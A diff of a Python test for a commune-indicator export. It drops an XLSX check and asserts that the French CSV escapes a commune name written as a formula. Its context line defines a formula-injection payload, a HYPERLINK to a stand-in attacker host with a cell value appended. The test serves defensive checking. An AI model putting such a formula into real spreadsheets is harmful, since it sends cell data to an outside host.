@@ -332,8 +332,6 @@ HOSTILE = '=HYPERLINK("http://attacker.example/?"&A1,"Clisson")'
 def test_a_commune_name_written_as_a_formula_is_published_as_text(world):
     import csv
 
-    import openpyxl
-
     def rename(lines):
         header = lines[0].split(",")
         for n, line in enumerate(lines[1:], start=1):
@@ -350,9 +348,8 @@ def test_a_commune_name_written_as_a_formula_is_published_as_text(world):
     with (folder / "indicateurs-france.csv").open(encoding="utf-8-sig", newline="") as handle:
         names = {row["nom"] for row in csv.DictReader(handle, delimiter=";")}
     assert "'" + HOSTILE in names and HOSTILE not in names
-    sheet = openpyxl.load_workbook(folder / "indicateurs-france.xlsx")["indicateurs"]
-    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and "HYPERLINK" in c.value]
-    assert cells and all(c.data_type == "s" and c.value == HOSTILE for c in cells)
+    # France has no XLSX (a territory's has: tests/test_indicators_exports.py checks it writes text as text)
+    assert not (folder / "indicateurs-france.xlsx").exists()
     assert leftovers(world.data, world.pub) == []
 
 
